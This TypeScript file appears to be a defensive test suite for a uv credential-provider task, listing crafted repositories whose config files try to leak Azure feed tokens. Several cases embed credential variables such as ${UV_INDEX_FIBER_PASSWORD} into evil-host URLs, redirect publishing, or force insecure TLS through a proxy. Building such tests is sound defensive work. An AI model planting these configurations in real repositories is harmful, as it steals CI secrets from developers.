import type { Addresses, HostileRepository, RepositoryFiles } from "../hostile-repository";
import { lookAlikes } from "./addresses";
import { uvOnOneHost } from "./uv-one-host";
import { fromIndex, index, makeWheel, noBackend, ownIndex, pyproject, script } from "./python-texts";

type Files = (at: Addresses) => RepositoryFiles;

/** A library beside the project, whose own pyproject.toml takes `evil` from an index of some name at an evil host. */
function library(at: Addresses, name: string, label?: string): string {
  return pyproject(["evil"], fromIndex(name) + index(name, at.evil("simple/", label)) + noBackend, "lib");
}

/** The project with such a library as a path dependency. */
function withLibrary(name: string, own = "fiber", label?: string): Files {
  return (at) => ({
    "pyproject.toml": pyproject(
      ["fabrikam-greeting", "lib"],
      `[tool.uv.sources]\nlib = { path = "lib" }\n\n${ownIndex(at, own)}`,
    ),
    "lib/pyproject.toml": library(at, name, label),
  });
}

/** A project of its own in a folder below. */
function nested(name: string): Files {
  return (at) => ({
    "pyproject.toml": pyproject(["fabrikam-greeting"], ownIndex(at)),
    "nested/pyproject.toml": pyproject(
      ["evil"],
      index(name, at.evil("simple/"), "default = true\n"),
      "nested",
    ),
  });
}

/** The project, and files beside it. */
function beside(files: (at: Addresses) => RepositoryFiles): Files {
  return (at) => ({ "pyproject.toml": pyproject(["fabrikam-greeting"], ownIndex(at)), ...files(at) });
}

/** The project with other dependencies, and more in its pyproject.toml. */
function project(
  dependencies: (at: Addresses) => readonly string[],
  more: (at: Addresses) => string = () => "",
): Files {
  return (at) => ({
    "pyproject.toml": pyproject(["fabrikam-greeting", ...dependencies(at)], more(at) + ownIndex(at)),
  });
}

const install = (requirements: string): string =>
  `uv venv -q .venv\nuv pip install --python .venv ${requirements}`;

const feeds = [{ task: "AuthenticateUv@1", inputs: { feeds: "Fabrikam Fiber/fiber" } }];
const guessedRealm = "feedpass-pkgs.dev.azure.com-fabrikam";

/** An index of the same name, or of a name that gives the same variables, at an evil host. */
const names: readonly HostileRepository[] = [
  {
    id: "uv-path-dependency",
    title: "a path dependency that has an index of the same name",
    files: withLibrary("fiber"),
    run: "uv lock",
    expect: "asked",
  },
  {
    id: "uv-path-dependency-missing",
    title: "the same where the evil host answers 404",
    files: withLibrary("fiber", "fiber", "missing"),
    run: "uv lock",
    expect: "asked",
  },
  {
    id: "uv-path-dependency-open",
    title: "the same where the evil host asks for nothing",
    files: withLibrary("fiber", "fiber", "open"),
    run: "uv lock",
    expect: "asked",
  },
  {
    id: "uv-path-dependency-case",
    title: "a path dependency's index of the same name in capitals",
    files: withLibrary("FIBER"),
    run: "uv lock",
    expect: "asked",
  },
  {
    id: "uv-path-dependency-punctuation",
    title: "a path dependency's index whose name gives the same variables",
    files: withLibrary("my.feed", "my-feed"),
    run: "uv lock",
    expect: "asked",
  },
  {
    id: "uv-path-dependency-realm",
    title: "a path dependency's index that has the name of a job-level place",
    files: withLibrary(guessedRealm),
    run: "uv lock",
    expect: "asked",
  },
  {
    id: "uv-editable",
    title: "an editable path dependency that has an index of the same name",
    files: (at) => ({
      "pyproject.toml": pyproject(
        ["lib"],
        `[tool.uv.sources]\nlib = { path = "deep/lib", editable = true }\n\n${ownIndex(at)}`,
      ),
      "deep/lib/pyproject.toml": library(at, "fiber"),
    }),
    run: "uv sync",
    expect: "asked",
  },
  {
    id: "uv-member",
    title: "a workspace member that has an index of the same name",
    files: (at) => ({
      "pyproject.toml": pyproject([], `[tool.uv.workspace]\nmembers = ["packages/*"]\n\n${ownIndex(at)}`),
      "packages/lib/pyproject.toml": library(at, "fiber"),
    }),
    run: "uv lock",
    expect: "asked",
  },
  {
    id: "uv-member-group",
    title: "a workspace member whose dependency group takes from an index of the same name",
    files: (at) => ({
      "pyproject.toml": pyproject([], `[tool.uv.workspace]\nmembers = ["lib"]\n\n${ownIndex(at)}`),
      "lib/pyproject.toml": pyproject(
        [],
        `[dependency-groups]\ndev = ["evil"]\n\n${fromIndex("fiber")}${index("fiber", at.evil("simple/"))}`,
        "lib",
      ),
    }),
    run: "uv lock",
    expect: "asked",
  },
  {
    id: "uv-build-requires",
    title: "a path dependency whose build takes from an index of the same name",
    files: (at) => ({
      "pyproject.toml": pyproject(["lib"], `[tool.uv.sources]\nlib = { path = "lib" }\n\n${ownIndex(at)}`),
      "lib/pyproject.toml": `[build-system]\nrequires = ["evil"]\nbuild-backend = "evil"\n\n[project]\nname = "lib"\ndynamic = ["version"]\n\n${fromIndex("fiber")}${index("fiber", at.evil("simple/"))}`,
    }),
    run: "uv lock",
    expect: "asked",
  },
  {
    id: "uv-nested",
    title: "a project in a folder below that has an index of the same name",
    files: nested("fiber"),
    run: "cd nested && uv sync",
    expect: "asked",
  },
  {
    id: "uv-nested-directory",
    title: "the same, run by --directory",
    files: nested("fiber"),
    run: "uv --directory nested lock",
    expect: "asked",
  },
  {
    id: "uv-nested-realm",
    title: "a project in a folder below whose index has the name of a job-level place",
    files: nested(guessedRealm),
    run: "cd nested && uv lock",
    expect: "asked",
  },
  {
    id: "uv-nested-add",
    title: "a project in a folder below, to which a package is added",
    files: nested("fiber"),
    run: "cd nested && uv add evil2",
    expect: "asked",
  },
  {
    id: "uv-nested-tree",
    title: "a project in a folder below, whose tree is asked for",
    files: nested("fiber"),
    run: "cd nested && uv tree",
    expect: "asked",
  },
  {
    id: "uv-nested-compile",
    title: "a project in a folder below that uv pip compile reads",
    files: nested("fiber"),
    run: "cd nested && uv pip compile pyproject.toml",
    expect: "asked",
  },
  {
    id: "uv-nested-editable",
    title: "a project in a folder below that uv pip install -e takes",
    files: (at) => ({ ...nested("fiber")(at), "nested/pyproject.toml": library(at, "fiber") }),
    run: install("-e ./nested"),
    expect: "asked",
  },
  {
    id: "uv-nested-uv-toml",
    title: "a uv.toml in a folder below that has an index of the same name",
    files: beside((at) => ({
      "nested/pyproject.toml": pyproject(["evil"], "", "nested"),
      "nested/uv.toml": index("fiber", at.evil("simple/"), "default = true\n", "index"),
    })),
    run: "cd nested && uv lock",
    expect: "asked",
  },
  {
    id: "uv-nested-feeds-input",
    title: "a project in a folder below with an index of the name that the input's feed gets",
    files: (at) => ({
      "pyproject.toml": pyproject(["fabrikam-greeting"]),
      "nested/pyproject.toml": pyproject(
        ["evil"],
        `${fromIndex("fiber")}${index("fiber", at.evil("simple/"), "explicit = true\n")}`,
        "nested",
      ),
    }),
    tasks: feeds,
    run: "cd nested && uv lock --default-index https://missing.evil.example/simple/ --index parts=https://missing.evil.example/simple/",
    expect: "asked",
  },
  {
    id: "uv-library-feeds-input",
    title: "a path dependency with an index of the name that the input's feed gets",
    files: (at) => ({
      "pyproject.toml": pyproject(["lib"], '[tool.uv.sources]\nlib = { path = "lib" }\n'),
      "lib/pyproject.toml": library(at, "fiber"),
    }),
    tasks: feeds,
    run: "uv lock",
    expect: "quiet",
  },
  {
    id: "uv-late",
    title: "a pyproject.toml that a step puts in place after the task",
    files: beside((at) => ({
      "late.toml": pyproject(["evil"], index("fiber", at.evil("simple/"), "default = true\n")),
    })),
    run: "mv late.toml pyproject.toml\nuv lock",
    expect: "asked",
  },
  ...["run", "lock --script", "sync --script", "export --script", "tree --script"].map((command) => ({
    id: `uv-script-${command.split(" ")[0] ?? ""}`,
    title: `a script with an index of the same name, for uv ${command}`,
    files: beside((at) => ({
      "tool.py": script(
        `dependencies = ["evil"]\n${index("fiber", at.evil("simple/"), "default = true\n", "tool.uv.index")}`,
      ),
    })),
    run: `uv ${command} tool.py`,
    expect: "asked" as const,
  })),
  {
    id: "uv-script-realm",
    title: "a script whose index has the name of a job-level place",
    files: beside((at) => ({
      "tool.py": script(
        `dependencies = ["evil"]\n${index(guessedRealm, at.evil("simple/"), "default = true\n", "tool.uv.index")}`,
      ),
    })),
    run: "uv run tool.py",
    expect: "asked",
  },
];

/** Addresses into which uv itself puts what a variable of the job holds. */
const guesses: readonly (readonly [string, string])[] = [
  ["index", "UV_INDEX_FIBER_PASSWORD"],
  ["realm", "UV_INDEX_FEEDPASS_PKGS_DEV_AZURE_COM_FABRIKAM_PASSWORD"],
  ["publish", "UV_PUBLISH_PASSWORD"],
];

const expansions: readonly HostileRepository[] = [
  ...guesses.map(([slug, variable]): HostileRepository => ({
    id: `uv-expand-direct-${slug}`,
    title: `a dependency by an address with \${${variable}}`,
    files: project((at) => [`evil @ ${at.evil(`\${${variable}}/evil-1.0.0-py3-none-any.whl`)}`]),
    run: "uv lock",
    expect: "asked",
  })),
  ...["--index-url", "--extra-index-url", "--find-links", "-r", "-c", "evil @"].map(
    (option, number): HostileRepository => ({
      id: `uv-expand-line-${number + 1}`,
      title: `a requirements line ${option} with a variable of the job in its address`,
      files: (at) => ({
        // An index of its own that is asked for nothing, so that no line of the requirements is overruled.
        "pyproject.toml": pyproject([], ownIndex(at).replace("default", "explicit")),

        "requirements.txt": `${option} ${at.evil("${UV_INDEX_FIBER_PASSWORD}/evil-1.0.0-py3-none-any.whl")}\nfabrikam-greeting\nevil-two\n`,
      }),
      run: install("-r requirements.txt"),
      expect: option === "-c" || option === "-r" ? "quiet" : "asked",
    }),
  ),
  {
    id: "uv-expand-index",
    title: "an index whose address has a variable of the job in it",
    files: project(
      () => ["evil"],
      (at) => index("more", at.evil("${UV_INDEX_FIBER_PASSWORD}/simple/")),
    ),
    run: "uv lock",
    expect: "asked",
  },
  {
    id: "uv-expand-uv-toml",
    title: "an index in uv.toml whose address has a variable of the job in it",
    files: (at) => ({
      "pyproject.toml": pyproject(["evil"]),
      "uv.toml": `${index("fiber", at.feed("pypi/simple/"), "default = true\n", "index")}${index("more", at.evil("${UV_INDEX_FIBER_PASSWORD}/simple/"), "", "index")}`,
    }),
    run: "uv lock",
    expect: "asked",
  },
  {
    id: "uv-expand-source",
    title: "a source whose address has a variable of the job in it",
    files: project(
      () => ["evil"],
      (at) =>
        `[tool.uv.sources]\nevil = { url = "${at.evil("${UV_INDEX_FIBER_PASSWORD}/evil-1.0.0-py3-none-any.whl")}" }\n\n`,
    ),
    run: "uv lock",
    expect: "asked",
  },
  {
    id: "uv-expand-script",
    title: "a script with a dependency by an address with a variable of the job",
    files: beside((at) => ({
      "tool.py": script(
        `dependencies = ["evil @ ${at.evil("${UV_INDEX_FIBER_PASSWORD}/evil-1.0.0-py3-none-any.whl")}"]`,
      ),
    })),
    run: "uv run tool.py",
    expect: "asked",
  },
  {
    id: "uv-expand-cargo",
    title:
      "a dependency by an address with the variable of a Cargo registry, which the job authenticated too",
    files: (at) => ({
      ...project(() => [`evil @ ${at.evil("${CARGO_REGISTRIES_FIBER_TOKEN}/evil-1.0.0-py3-none-any.whl")}`])(
        at,
      ),
      ".cargo/config.toml": `[registries]\nfiber = { index = "sparse+${at.feed("Cargo/index/")}" }\n`,
    }),
    tasks: [{ task: "AuthenticateCargo@1" }, { task: "AuthenticateUv@1" }],
    run: "uv lock",
    expect: "asked",
  },
  {
    id: "uv-expand-maven",
    title: "a dependency by an address with Maven's variable, which the job authenticated too",
    files: (at) => ({
      ...project(() => [`evil @ ${at.evil("${FEEDPASS_MAVEN_TOKEN}/evil-1.0.0-py3-none-any.whl")}`])(at),
      "pom.xml": `<project><repositories><repository><id>fiber</id><url>${at.feed("maven/v1")}</url></repository></repositories></project>`,
    }),
    tasks: [{ task: "AuthenticateMaven@1" }, { task: "AuthenticateUv@1" }],
    run: "uv lock",
    expect: "asked",
  },
];

/** Indexes of other organizations on the feed's own host, and addresses there without an index. */
const otherWheel = "pypi/download/contoso-greeting/1.0.0/contoso_greeting-1.0.0-py3-none-any.whl";

const organizations = [
  "contoso",
  "northwind",
  "adventure",
  "tailspin",
  "wingtip",
  "litware",
  "woodgrove",
  "lucerne",
];

const sameHost: readonly HostileRepository[] = [
  ...organizations.map((organization): HostileRepository => ({
    id: `uv-second-index-${organization}`,
    title: `a second index, of the organization ${organization}`,
    files: project(
      () => ["contoso-greeting"],
      (at) => index("parts", at.other("pypi/simple/", organization)),
    ),
    run: "uv lock",
    expect: "asked",
  })),
  ...[1, 2, 3].map((number): HostileRepository => ({
    id: `uv-second-index-server-${number}`,
    title: "a second index, of another collection",
    face: "server",
    files: project(
      () => ["contoso-greeting"],
      (at) => index("parts", at.other("pypi/simple/", number === 1 ? undefined : `Other${number}`)),
    ),
    run: "uv lock",
    expect: "asked",
  })),
  {
    id: "uv-second-index-library",
    title: "an index of another organization in a path dependency alone",
    files: (at) => ({
      "pyproject.toml": pyproject(["lib"], `[tool.uv.sources]\nlib = { path = "lib" }\n\n${ownIndex(at)}`),
      "lib/pyproject.toml": pyproject(
        ["evil"],
        fromIndex("parts") + index("parts", at.other("pypi/simple/")) + noBackend,
        "lib",
      ),
    }),
    run: "uv lock",
    expect: "asked",
  },
  ...["VssSessionToken", "someone"].map((user): HostileRepository => ({
    id: `uv-second-index-user-${user.toLowerCase()}`,
    title: `a second index, of another organization, with the user name ${user}, which the first has too`,
    files: (at) => ({
      "pyproject.toml": pyproject(
        ["fabrikam-greeting", "contoso-greeting"],
        index("parts", at.other("pypi/simple/").replace("://", `://${user}@`)) +
          ownIndex(at).replace("://", `://${user}@`),
      ),
    }),
    run: "uv lock",
    expect: "asked",
  })),
  {
    id: "uv-direct",
    title: "a dependency by an address of another organization",
    files: project((at) => [`contoso-greeting @ ${at.other(otherWheel)}`]),
    run: "uv lock",
    expect: "asked",
  },
  {
    id: "uv-direct-server",
    title: "a dependency by an address of another collection",
    face: "server",
    files: project((at) => [`contoso-greeting @ ${at.other(otherWheel)}`]),
    run: "uv lock",
    expect: "asked",
  },
  {
    id: "uv-direct-user",
    title: "the same with the user name VssSessionToken",
    files: project((at) => [
      `contoso-greeting @ ${at.other(otherWheel).replace("://", "://VssSessionToken@")}`,
    ]),
    run: "uv lock",
    expect: "asked",
  },
  {
    id: "uv-direct-dots",
    title: "the same by way of the job's own organization and dots",
    files: project((at) => [
      `contoso-greeting @ ${at.other(otherWheel).replace("/contoso/", "/fabrikam/../contoso/")}`,
    ]),
    run: "uv lock",
    expect: "asked",
  },
  {
    id: "uv-direct-group",
    title: "a dependency group with an address of another organization",
    files: project(
      () => [],
      (at) => `[dependency-groups]\ndev = ["contoso-greeting @ ${at.other(otherWheel)}"]\n\n`,
    ),
    run: "uv lock",
    expect: "asked",
  },
  {
    id: "uv-source",
    title: "a source at another organization",
    files: project(
      () => ["contoso-greeting"],
      (at) => `[tool.uv.sources]\ncontoso-greeting = { url = "${at.other(otherWheel)}" }\n\n`,
    ),
    run: "uv lock",
    expect: "asked",
  },
  {
    id: "uv-find-links",
    title: "find-links at another organization",
    files: project(
      () => ["contoso-greeting"],
      (at) => `[tool.uv]\nfind-links = ["${at.other("pypi/simple/contoso-greeting/")}"]\n\n`,
    ),
    run: "uv lock",
    expect: "asked",
  },
  {
    id: "uv-constraint",
    title: "a constraint by an address of another organization",
    files: project(
      () => ["contoso-greeting"],
      (at) => `[tool.uv]\nconstraint-dependencies = ["contoso-greeting @ ${at.other(otherWheel)}"]\n\n`,
    ),
    run: "uv lock",
    expect: "asked",
  },
  {
    id: "uv-override",
    title: "an override by an address of another organization",
    files: project(
      () => ["contoso-greeting"],
      (at) => `[tool.uv]\noverride-dependencies = ["contoso-greeting @ ${at.other(otherWheel)}"]\n\n`,
    ),
    run: "uv lock",
    expect: "asked",
  },
  {
    id: "uv-build-direct",
    title: "a build requirement by an address of another organization",
    files: (at) => ({
      "pyproject.toml": pyproject(["lib"], `[tool.uv.sources]\nlib = { path = "lib" }\n\n${ownIndex(at)}`),
      "lib/pyproject.toml": `[build-system]\nrequires = ["contoso-greeting @ ${at.other(otherWheel)}"]\nbuild-backend = "contoso_greeting"\n\n[project]\nname = "lib"\ndynamic = ["version"]\n`,
    }),
    run: "uv lock",
    expect: "asked",
  },
  ...["--index-url", "--extra-index-url", "--find-links", "-r", "-c", "contoso-greeting @"].map(
    (option, number): HostileRepository => ({
      id: `uv-line-${number + 1}`,
      title: `a requirements line ${option} with an address of another organization`,
      files: (at) => ({
        // An index of its own that is asked for nothing, so that no line of the requirements is overruled.
        "pyproject.toml": pyproject([], ownIndex(at).replace("default", "explicit")),

        "requirements.txt": `${option} ${at.other(option.startsWith("contoso") ? otherWheel : option.includes("index") ? "pypi/simple/" : "pypi/simple/contoso-greeting/")}\nfabrikam-greeting\ncontoso-greeting\n`,
      }),
      run: install("-r requirements.txt"),
      expect: "asked",
    }),
  ),
  {
    id: "uv-lock-url",
    title: "a uv.lock that has a package at another organization",
    files: (at) => ({
      ...project((to) => [`contoso-greeting @ ${to.other(otherWheel)}`])(at),
      "uv.lock": `version = 1\nrevision = 3\nrequires-python = ">=3.9"\n\n[[package]]\nname = "app"\nversion = "1.0.0"\nsource = { virtual = "." }\ndependencies = [{ name = "contoso-greeting" }]\n\n[[package]]\nname = "contoso-greeting"\nversion = "1.0.0"\nsource = { url = "${at.other(otherWheel)}" }\nwheels = [{ url = "${at.other(otherWheel)}", hash = "sha256:${"0".repeat(64)}" }]\n`,
    }),
    run: "uv sync --frozen",
    expect: "asked",
  },
  {
    id: "uv-lock-registry",
    title: "a uv.lock that has a package's files at another organization",
    files: (at) => ({
      ...project(() => ["contoso-greeting"])(at),
      "uv.lock": `version = 1\nrevision = 3\nrequires-python = ">=3.9"\n\n[[package]]\nname = "app"\nversion = "1.0.0"\nsource = { virtual = "." }\ndependencies = [{ name = "contoso-greeting" }]\n\n[[package]]\nname = "contoso-greeting"\nversion = "1.0.0"\nsource = { registry = "${at.feed("pypi/simple/")}" }\nwheels = [{ url = "${at.other(otherWheel)}", hash = "sha256:${"0".repeat(64)}", size = 100 }]\n`,
    }),
    run: "uv sync --frozen",
    expect: "asked",
  },
  {
    id: "uv-pylock",
    title: "a pylock.toml that has a package at another organization",
    files: beside((at) => ({
      "pylock.toml": `lock-version = "1.0"\ncreated-by = "x"\n\n[[packages]]\nname = "contoso-greeting"\nversion = "1.0.0"\nwheels = [{ url = "${at.other(otherWheel)}", hashes = { sha256 = "${"0".repeat(64)}" } }]\n`,
    })),
    run: "uv venv -q .venv\nuv pip sync --python .venv pylock.toml",
    expect: "asked",
  },
  {
    id: "uv-script-direct",
    title: "a script with a dependency by an address of another organization",
    files: beside((at) => ({
      "tool.py": script(`dependencies = ["contoso-greeting @ ${at.other(otherWheel)}"]`),
    })),
    run: "uv run tool.py",
    expect: "asked",
  },
  {
    id: "uv-python-list",
    title: "a list of Python downloads at another organization",
    files: project(
      () => [],
      (at) => `[tool.uv]\npython-downloads-json-url = "${at.other("downloads.json")}"\n\n`,
    ),
    run: "UV_PYTHON_DOWNLOADS=manual uv python install 3.99",
    expect: "asked",
  },
  {
    id: "uv-python-mirror",
    title: "a mirror of Python downloads at another organization",
    files: project(
      () => [],
      (at) => `[tool.uv]\npython-install-mirror = "${at.other("pythons")}"\n\n`,
    ),
    run: "UV_PYTHON_DOWNLOADS=manual uv python install 3.13",
    expect: "asked",
  },
  {
    id: "uv-git",
    title: "a Git source at another organization",
    files: project(
      () => ["contoso-greeting"],
      (at) => `[tool.uv.sources]\ncontoso-greeting = { git = "${at.other("_git/x")}" }\n\n`,
    ),
    run: "GIT_TERMINAL_PROMPT=0 GIT_SSL_NO_VERIFY=1 uv lock",
    expect: "asked",
  },
];

/** Publishing to somebody else. */
const publishing: readonly HostileRepository[] = [
  {
    id: "uv-publish-url",
    title: "a publish-url of an evil host",
    files: project(
      () => [],
      (at) => `[tool.uv]\npublish-url = "${at.evil("upload/")}"\n\n`,
    ),
    run: `${makeWheel("lab1")}\nuv publish dist/*.whl`,
    expect: "quiet",
  },
  {
    id: "uv-publish-url-two-feeds",
    title: "a publish-url of an evil host, where there are two feeds and so no address to publish to",
    files: project(
      () => [],
      (at) =>
        `${index("shared", at.shared("pypi/simple/"))}[tool.uv]\npublish-url = "${at.evil("upload/")}"\ncheck-url = "${at.feed("pypi/simple/")}"\n\n`,
    ),
    run: `${makeWheel("lab2")}\nuv publish dist/*.whl`,
    expect: "asked",
  },
  {
    id: "uv-publish-url-other",
    title: "a publish-url of another organization, where there are two feeds",
    files: project(
      () => [],
      (at) =>
        `${index("shared", at.shared("pypi/simple/"))}[tool.uv]\npublish-url = "${at.other("pypi/upload/")}"\ncheck-url = "${at.feed("pypi/simple/")}"\n\n`,
    ),
    run: `${makeWheel("lab3")}\nuv publish dist/*.whl`,
    expect: "asked",
  },
  {
    id: "uv-publish-check-url",
    title: "a check-url of an evil host",
    files: project(
      () => [],
      (at) => `[tool.uv]\ncheck-url = "${at.evil("simple/")}"\n\n`,
    ),
    run: `${makeWheel("lab4")}\nuv publish dist/*.whl`,
    expect: "quiet",
  },
  {
    id: "uv-publish-index",
    title: "an index of the feed that publishes to an evil host",
    files: (at) => ({
      "pyproject.toml": pyproject(
        [],
        index("fiber", at.feed("pypi/simple/"), `default = true\npublish-url = "${at.evil("upload/")}"\n`),
      ),
    }),
    run: `${makeWheel("lab5")}\nuv publish --index fiber dist/*.whl`,
    expect: "asked",
  },
  {
    id: "uv-publish-index-nested",
    title: "a project in a folder below whose index of the same name publishes to an evil host",
    files: beside((at) => ({
      "nested/pyproject.toml": pyproject(
        [],
        index("fiber", at.evil("simple/"), `publish-url = "${at.evil("upload/")}"\n`),
        "nested",
      ),
    })),
    run: `cd nested\n${makeWheel("lab6")}\nunset UV_PUBLISH_URL UV_PUBLISH_CHECK_URL\nuv publish --index fiber dist/*.whl`,
    expect: "asked",
  },
];

/** TLS and proxies of the repository's choice. */
const insecure = (at: Addresses, more: string): string =>
  `[tool.uv]\n${more.replaceAll("PROXY", at.proxy)}\n\n${ownIndex(at)}`;

const tls: readonly HostileRepository[] = [
  ...[
    ["both", 'allow-insecure-host = ["pkgs.dev.azure.com"]\nhttps-proxy = "PROXY"\nhttp-proxy = "PROXY"'],
    ["port", 'allow-insecure-host = ["pkgs.dev.azure.com:443"]\nhttps-proxy = "PROXY"'],
    ["scheme", 'allow-insecure-host = ["https://pkgs.dev.azure.com"]\nhttps-proxy = "PROXY"'],
    ["all", 'allow-insecure-host = ["*"]\nhttps-proxy = "PROXY"'],
  ].map(([slug = "", settings = ""]): HostileRepository => ({
    id: `uv-insecure-${slug}`,
    title: `allow-insecure-host (${slug}) and a proxy in pyproject.toml`,
    files: (at) => ({ "pyproject.toml": pyproject(["fabrikam-greeting"], insecure(at, settings)) }),
    run: "uv lock",
    expect: "quiet",
  })),
  {
    id: "uv-insecure-no-environment",
    title: "allow-insecure-host and a proxy, on a machine that has no proxy in its environment",
    files: (at) => ({
      "pyproject.toml": pyproject(
        ["fabrikam-greeting"],
        insecure(at, 'allow-insecure-host = ["pkgs.dev.azure.com"]\nhttps-proxy = "PROXY"'),
      ),
    }),
    run: "unset HTTPS_PROXY HTTP_PROXY http_proxy\nuv lock",
    expect: "asked",
  },
  {
    id: "uv-insecure-uv-toml",
    title: "the same in uv.toml",
    files: (at) => ({
      "pyproject.toml": pyproject(["fabrikam-greeting"]),
      "uv.toml": `allow-insecure-host = ["pkgs.dev.azure.com"]\nhttps-proxy = "${at.proxy}"\n\n${index("fiber", at.feed("pypi/simple/"), "default = true\n", "index")}`,
    }),
    run: "unset HTTPS_PROXY HTTP_PROXY http_proxy\nuv lock",
    expect: "asked",
  },
  {
    id: "uv-insecure-alone",
    title: "allow-insecure-host for the feed's host, and no proxy",
    files: (at) => ({
      "pyproject.toml": pyproject(
        ["fabrikam-greeting"],
        insecure(at, 'allow-insecure-host = ["pkgs.dev.azure.com"]'),
      ),
    }),
    run: "uv lock",
    expect: "refused",
  },
  {
    id: "uv-insecure-script",
    title: "a script with allow-insecure-host and a proxy",
    files: beside((at) => ({
      "tool.py": script(
        `dependencies = ["fabrikam-greeting"]\n[tool.uv]\nallow-insecure-host = ["pkgs.dev.azure.com"]\nhttps-proxy = "${at.proxy}"\n${ownIndex(at)}`,
      ),
    })),
    run: "unset HTTPS_PROXY HTTP_PROXY http_proxy\nuv run tool.py",
    expect: "quiet",
  },
  {
    id: "uv-insecure-nested",
    title: "a project in a folder below with allow-insecure-host and a proxy",
    files: beside((at) => ({
      "nested/pyproject.toml": pyproject(
        ["fabrikam-greeting"],
        insecure(at, `allow-insecure-host = ["pkgs.dev.azure.com"]\nhttps-proxy = "${at.proxy}"`),
        "nested",
      ),
    })),
    run: "cd nested\nunset HTTPS_PROXY HTTP_PROXY http_proxy\nuv lock",
    expect: "asked",
  },
  {
    id: "uv-insecure-member",
    title: "a workspace member with allow-insecure-host and a proxy, in whose folder uv is run",
    files: (at) => ({
      "pyproject.toml": pyproject([], `[tool.uv.workspace]\nmembers = ["lib"]\n\n${ownIndex(at)}`),
      "lib/pyproject.toml": pyproject(
        ["fabrikam-greeting"],
        insecure(at, `allow-insecure-host = ["pkgs.dev.azure.com"]\nhttps-proxy = "${at.proxy}"`),
        "lib",
      ),
    }),
    run: "cd lib\nunset HTTPS_PROXY HTTP_PROXY http_proxy\nuv lock",
    expect: "refused",
  },
  {
    id: "uv-proxy-alone",
    title: "a proxy in pyproject.toml, and no word on TLS",
    files: (at) => ({
      "pyproject.toml": pyproject(["fabrikam-greeting"], insecure(at, 'https-proxy = "PROXY"')),
    }),
    run: "unset HTTPS_PROXY HTTP_PROXY http_proxy\nuv lock",
    expect: "quiet",
  },
  {
    id: "uv-insecure-server",
    title: "a proxy for http, and a feed that is reached by http",
    face: "server",
    files: (at) => ({
      "pyproject.toml": pyproject(["fabrikam-greeting"], insecure(at, 'http-proxy = "PROXY"')),
    }),
    run: "uv lock",
    expect: "asked",
  },
];

/** Projects that mean no harm, and must go on working. */
const innocent: readonly HostileRepository[] = [
  {
    id: "uv-innocent",
    title: "its own index and nothing else",
    files: project(() => []),
    run: "uv sync",
    expect: "works",
  },
  {
    id: "uv-innocent-public-second",
    title: "a second index, a public one of another host",
    files: project(
      () => [],
      (at) => index("public", at.evil("simple/", "missing")),
    ),
    run: "uv sync",
    expect: "works",
  },
  {
    id: "uv-innocent-second-first",
    title: "an index of another organization that only one package is taken from",
    files: project(
      () => [],
      (at) => index("parts", at.other("pypi/simple/"), "explicit = true\n"),
    ),
    run: "uv sync",
    expect: "works",
  },
  {
    id: "uv-innocent-library",
    title: "a path dependency that names the feed by the same name",
    files: (at) => ({
      "pyproject.toml": pyproject(["lib"], `[tool.uv.sources]\nlib = { path = "lib" }\n\n${ownIndex(at)}`),
      "lib/pyproject.toml": pyproject(
        ["fabrikam-greeting"],
        `[tool.uv.sources]\nfabrikam-greeting = { index = "fiber" }\n\n${index("fiber", at.feed("pypi/simple/"))}${noBackend}`,
        "lib",
      ),
    }),
    run: "uv lock",
    expect: "works",
  },
  {
    id: "uv-innocent-nested-feed",
    title: "a project in a folder below that has another feed of the organization",
    files: beside((at) => ({
      "nested/pyproject.toml": pyproject(
        ["shared-greeting"],
        index("shared", at.shared("pypi/simple/"), "default = true\n"),
        "nested",
      ),
    })),
    run: "cd nested && uv sync",
    expect: "works",
  },
  {
    id: "uv-innocent-script",
    title: "a script that names the feed",
    files: beside((at) => ({ "tool.py": script(`dependencies = ["fabrikam-greeting"]\n${ownIndex(at)}`) })),
    run: "uv run tool.py",
    expect: "works",
  },
  {
    id: "uv-innocent-user",
    title: "a user name in the feed's address",
    files: (at) => ({
      "pyproject.toml": pyproject(["fabrikam-greeting"], ownIndex(at).replace("://", "://VssSessionToken@")),
    }),
    run: "uv sync",
    expect: "works",
  },
  {
    id: "uv-innocent-case",
    title: "the feed's address in other case",
    files: (at) => ({
      "pyproject.toml": pyproject(
        ["fabrikam-greeting"],
        ownIndex(at).replace("pkgs.dev.azure.com/fabrikam", "PKGS.dev.azure.com:443/Fabrikam"),
      ),
    }),
    run: "uv sync",
    expect: "works",
  },
  {
    id: "uv-innocent-publish",
    title: "a wheel to publish",
    files: project(() => []),
    run: `${makeWheel("lab7")}\nuv publish dist/*.whl`,
    expect: "works",
  },
  {
    id: "uv-innocent-publish-index",
    title: "a wheel to publish to an index by its name",
    files: (at) => ({
      "pyproject.toml": pyproject(
        [],
        index(
          "fiber",
          at.feed("pypi/simple/"),
          `default = true\npublish-url = "${at.feed("pypi/upload/")}"\n`,
        ),
      ),
    }),
    run: `${makeWheel("lab8")}\nuv publish --index fiber dist/*.whl`,
    expect: "works",
  },
];

const addresses = lookAlikes.map(({ slug, title, address, face, expect }): HostileRepository => ({
  id: `uv-address-${slug}`,
  title: `an index at ${title}`,
  ...(face === undefined ? {} : { face }),
  files: project(
    () => ["evil"],
    (at) =>
      fromIndex("look") +
      index("look", JSON.stringify(address(at, "pypi/simple/")).slice(1, -1), "explicit = true\n"),
  ),
  run: "uv lock",
  expect: expect ?? "quiet",
}));

export const uvRepositories: readonly HostileRepository[] = [
  ...names,
  ...expansions,
  ...sameHost,
  ...uvOnOneHost,
  ...publishing,
  ...tls,
  ...addresses,
  ...innocent,
];
